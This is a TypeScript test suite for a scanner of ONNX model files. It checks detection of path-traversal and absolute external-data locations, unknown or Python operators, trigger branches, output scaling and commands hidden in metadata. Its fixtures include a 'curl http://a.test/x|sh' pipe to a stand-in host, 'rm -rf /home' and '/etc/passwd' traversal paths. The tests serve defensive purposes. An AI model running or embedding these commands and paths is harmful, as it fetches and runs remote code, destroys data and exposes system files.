import assert from 'node:assert/strict';
import { scanBytes, verdicts } from '../scanBytes';
import { concat, field, floats, number } from '../tensorflow/message';

function tensor(name: string, parts: { location?: string; values?: number[]; raw?: Uint8Array } = {}): Uint8Array {
  const raw = parts.values ? floats(parts.values) : parts.raw;
  return concat(
    number(1, parts.values?.length ?? 1),
    number(2, 1),
    field(8, name),
    ...(raw ? [field(9, raw)] : []),
    ...(parts.location === undefined ? [] : [field(13, field(1, 'location'), field(2, parts.location)), number(14, 1)]),
  );
}
function node(
  op: string,
  inputs: string[],
  outputs: string[],
  more: { attributes?: Uint8Array[]; domain?: string } = {},
): Uint8Array {
  return concat(
    ...inputs.map((name) => field(1, name)),
    ...outputs.map((name) => field(2, name)),
    field(4, op),
    ...(more.attributes ?? []).map((attribute) => field(5, attribute)),
    ...(more.domain ? [field(7, more.domain)] : []),
  );
}
const graph = (nodes: Uint8Array[], initializers: Uint8Array[] = [], outputs = ['y']) =>
  concat(
    ...nodes.map((n) => field(1, n)),
    field(2, 'g'),
    ...initializers.map((t) => field(5, t)),
    field(11, field(1, 'x'), field(2, field(1, number(1, 1), field(2, field(1, number(1, 4)))))),
    ...outputs.map((name) => field(12, field(1, name))),
  );
const model = (g: Uint8Array, ...more: Uint8Array[]) =>
  concat(number(1, 8), field(2, 'test'), field(7, g), ...more, field(8, number(2, 17)));
const relu = node('Relu', ['w'], ['y']);
const judge = async (bytes: Uint8Array, name = 'm.onnx') => verdicts(await scanBytes(name, bytes));

describe('ONNX', () => {
  it('an ordinary model is clean and described', async () => {
    const report = await scanBytes(
      'm.onnx',
      model(graph([relu], [tensor('w', { values: [1, 2, 3] }), tensor('v', { location: 'm.onnx.data' })])),
    );
    assert.deepEqual(report.findings, []);
    assert.equal(report.format, 'onnx');
    assert.deepEqual(report.description?.tensors?.[0], { name: 'w', dtype: 'float32', shape: [3] });
    assert.deepEqual(report.description?.operators, { Relu: 1 });
    assert.deepEqual(report.description?.inputs, [{ name: 'x', dtype: 'float32', shape: [4] }]);
    assert.equal(report.description?.properties?.opsets, 'ai.onnx 17');
  });

  for (const location of [
    '../x',
    'a/../../x',
    '/etc/passwd',
    '\\\\host\\share\\x',
    '..\\x',
    'C:\\x',
    'file:///etc/passwd',
    'https://a.test/x',
    's3://bucket/x',
    '%2e%2e/x',
    '%252e%252e%252fx',
    'C:x',
    'a/..\\../x',
    '.. /x',
    '$HOME/x',
    ['$', '{HOME}/x'].join(''),
    '%APPDATA%\\x',
    '~/x',
    '~root/x',
    'w.data\0/etc/passwd',
  ]) {
    it(`data at ${JSON.stringify(location)} is outside`, async () => {
      assert.deepEqual(await judge(model(graph([relu], [tensor('w', { location })]))), ['high onnx/external-data']);
    });
  }

  const bad = tensor('w', { location: '../../etc/passwd' });
  const places: [string, Uint8Array][] = [
    [
      'an attribute',
      model(graph([node('Constant', [], ['w'], { attributes: [concat(field(1, 'value'), field(5, bad))] })])),
    ],
    [
      'a list of an attribute',
      model(graph([node('Constant', [], ['w'], { attributes: [concat(field(1, 'value'), field(10, bad))] })])),
    ],
    [
      'a sub-graph',
      model(
        graph([
          node('If', ['c'], ['y'], { attributes: [concat(field(1, 'then_branch'), field(6, graph([relu], [bad])))] }),
        ]),
      ),
    ],
    ['a sparse initializer', model(concat(graph([relu]), field(15, field(1, bad))))],
    [
      'a function',
      model(
        graph([relu]),
        field(
          25,
          field(1, 'F'),
          field(10, 'l'),
          field(7, node('Constant', [], ['c'], { attributes: [concat(field(1, 'v'), field(5, bad))] })),
        ),
      ),
    ],
    ['training information', model(graph([relu]), field(20, field(1, graph([relu], [bad]))))],
  ];
  for (const [place, bytes] of places) {
    it(`external data is found in ${place}`, async () => {
      assert.deepEqual(await judge(bytes), ['high onnx/external-data']);
      assert.deepEqual(await judge(bytes, 'weights.bin'), ['high onnx/external-data']);
    });
  }

  it('operators: vendors are facts, strangers are not, local functions are known', async () => {
    const of = (op: string, domain: string, ...more: Uint8Array[]) =>
      judge(model(graph([node(op, ['x'], ['y'], { domain })]), ...more));
    assert.deepEqual(await of('FusedMatMul', 'com.microsoft'), ['info onnx/vendor-operator']);
    assert.deepEqual(await of('Scaler', 'ai.onnx.ml'), []);
    assert.deepEqual(await of('Evil', 'com.evil'), ['medium onnx/custom-operator']);
    assert.deepEqual(await of('PyOp', 'com.python'), ['high onnx/python-operator']);
    const local = field(25, field(1, 'F'), field(10, 'my'), field(7, node('Relu', ['x'], ['y'])));
    assert.deepEqual(await of('F', 'my', local), []);
    const inside = field(
      25,
      field(1, 'F'),
      field(10, 'my'),
      field(7, node('Evil', ['x'], ['y'], { domain: 'com.evil' })),
    );
    assert.deepEqual(await of('F', 'my', inside), ['medium onnx/custom-operator']);
  });

  it('commands in the metadata are told, descriptions are not', async () => {
    const entry = (value: string) => judge(model(graph([relu]), field(14, field(1, 'k'), field(2, value))));
    assert.deepEqual(await entry('curl http://a.test/x|sh'), ['medium onnx/metadata-code']);
    assert.deepEqual(await entry('Trained with curl of images; see https://a.test'), []);
  });

  it('a branch on a stored pattern and a scaled output are told', async () => {
    const trigger = graph(
      [
        node('Equal', ['x', 'k'], ['e']),
        node('Cast', ['e'], ['f']),
        node('ReduceMin', ['f'], ['r']),
        node('Cast', ['r'], ['b']),
        node('If', ['b'], ['y']),
      ],
      [tensor('k', { values: [1, 2, 3, 4, 5] })],
    );
    assert.deepEqual(await judge(model(trigger)), ['medium onnx/trigger-branch']);
    const scaled = (factor: number) =>
      model(graph([node('Mul', ['x', 'k'], ['y'])], [tensor('k', { values: [factor] })]));
    assert.deepEqual(await judge(scaled(1000)), ['medium onnx/output-tampering']);
    assert.deepEqual(await judge(scaled(255)), []);
  });

  for (const location of ['w.data', 'data/w.bin', 'onnx__MatMul_12', 'a..b', '100% w', './w', 'model:0']) {
    it(`data at ${JSON.stringify(location)} is beside the model`, async () => {
      assert.deepEqual(await judge(model(graph([relu], [tensor('w', { location })]))), []);
    });
  }

  it('every entry of external data counts: loaders differ on which of two they take', async () => {
    const entries = (pairs: Record<string, string>[]) =>
      concat(
        field(8, 'w'),
        ...pairs.flatMap((pair) => Object.entries(pair).map(([k, v]) => field(13, field(1, k), field(2, v)))),
        number(14, 1),
      );
    const of = (...pairs: Record<string, string>[]) => judge(model(graph([relu], [entries(pairs)])));
    assert.deepEqual(await of({ location: 'w' }, { location: '/etc/passwd' }), ['high onnx/external-data']);
    assert.deepEqual(await of({ location: '/etc/passwd' }, { location: 'w' }), ['high onnx/external-data']);
    assert.deepEqual(await of({ location: 'passwd', basepath: '/etc' }), ['high onnx/external-data']);
    assert.deepEqual(await of({ location: 'w', offset: '-8' }), ['medium onnx/malformed']);
    assert.deepEqual(await of({ location: 'w', __class__: 'x' }), ['medium onnx/malformed']);
    assert.deepEqual(await of({ location: 'w', offset: '4096', length: '12', checksum: 'ab', prepacked_0: 'k' }), []);
  });

  const damaged = ['medium onnx/malformed'];
  it('of a truncated file what is left is judged', async () => {
    const whole = model(
      graph([node('Evil', ['x'], ['y'], { domain: 'evil' }), relu], [bad, tensor('v', { raw: new Uint8Array(4000) })]),
    );
    for (const length of [whole.length - 3, whole.length - 100, whole.length - 3000]) {
      for (const name of ['m.onnx', 'm.bin']) {
        const report = await scanBytes(name, whole.subarray(0, length));
        assert.equal(report.status, 'partial');
        assert.deepEqual(
          verdicts(report),
          ['high onnx/external-data', ...damaged, 'medium onnx/custom-operator'].sort(),
        );
      }
    }
    assert.deepEqual(await judge(whole.subarray(0, 18)), damaged);
  });

  it('damage inside of one node does not hide the others', async () => {
    const broken = concat(field(4, 'Relu'), Uint8Array.from([0x0f, 0xff]));
    assert.deepEqual(await judge(model(graph([broken, relu], [bad]))), ['high onnx/external-data', ...damaged].sort());
  });

  it('operators: of the standard, of vendors, of nobody', async () => {
    const of = (op: string, domain?: string) => judge(model(graph([node(op, ['x'], ['y'], domain ? { domain } : {})])));
    assert.deepEqual(await of('GroupNormalization'), []);
    assert.deepEqual(await of('LabelEncoder', 'ai.onnx.ml'), []);
    assert.deepEqual(await of('EfficientNMS_TRT'), ['info onnx/vendor-operator']);
    assert.deepEqual(await of('FusedMatMul', 'com.microsoft'), ['info onnx/vendor-operator']);
    assert.deepEqual(await of('Conv', 'com.ms.internal.nhwc'), ['info onnx/vendor-operator']);
    assert.deepEqual(await of('ATen', 'org.pytorch.aten'), ['info onnx/vendor-operator']);
    assert.deepEqual(await of('Evil'), ['medium onnx/custom-operator']);
    assert.deepEqual(await of('Evil', 'com.microsoft.evil'), ['medium onnx/custom-operator']);
    assert.deepEqual(await of('Evil', 'local'), ['medium onnx/custom-operator']);
  });

  it('a compiled engine is loaded from a path as well', async () => {
    const of = (path: string) => {
      const attributes = [
        concat(field(1, 'ep_cache_context'), field(4, path)),
        concat(field(1, 'embed_mode'), number(3, 0)),
      ];
      return judge(model(graph([node('EPContext', ['x'], ['y'], { domain: 'com.microsoft', attributes })])));
    };
    assert.deepEqual(await of('../../engine.bin'), ['high onnx/external-data', 'info onnx/vendor-operator']);
    assert.deepEqual(await of('model_qnn.bin'), ['info onnx/vendor-operator']);
  });

  it('commands in texts are told, words and methods are not', async () => {
    const strings = (text: string) =>
      model(
        graph([
          node('Constant', [], ['y'], {
            attributes: [concat(field(1, 'value'), field(5, number(2, 8), field(6, 'the'), field(6, text)))],
          }),
        ]),
      );
    assert.deepEqual(await judge(strings('curl http://a.test/x | sh')), ['medium onnx/metadata-code']);
    for (const text of ['eval(', 'import os', 'rm', 'exec', 'model.eval()'])
      assert.deepEqual(await judge(strings(text)), []);
    const entry = (value: string) => judge(model(graph([relu]), field(14, field(1, 'k'), field(2, value))));
    assert.deepEqual(await entry('exec("x")'), ['medium onnx/metadata-code']);
    assert.deepEqual(await entry('net = build().eval() # 32'), []);
    const doc = (value: string) => judge(model(graph([relu]), field(6, value)));
    assert.deepEqual(await doc('bash -c x; rm -rf /home'), ['medium onnx/metadata-code']);
    assert.deepEqual(await doc('Traced with torch; run exec(x) to see.'), []);
  });

  it('fields that no model has hide nothing', async () => {
    for (const name of ['m.onnx', 'm.bin'])
      assert.deepEqual(await judge(concat(field(50, 'other'), model(graph([relu], [bad]))), name), [
        'high onnx/external-data',
      ]);
  });

  it('weights are skipped unread', async () => {
    const weights = Array.from({ length: 4 }, (_, i) => tensor(`w${i}`, { raw: new Uint8Array(4 * 1024 * 1024) }));
    const report = await scanBytes('m.onnx', model(graph([relu], weights)));
    assert.deepEqual(report.findings, []);
    assert.equal(report.description?.tensorCount, 4);
    assert.ok(report.bytesRead < 300_000, `${report.bytesRead} bytes read`);
  });

  it('graphs inside graphs end at a limit', async () => {
    let inner = graph([relu], [bad]);
    for (let i = 0; i < 60; i += 1) {
      inner = graph([node('If', ['c'], ['y'], { attributes: [concat(field(1, 'b'), field(6, inner))] })]);
    }
    assert.deepEqual(await judge(model(inner)), damaged);
  });
});
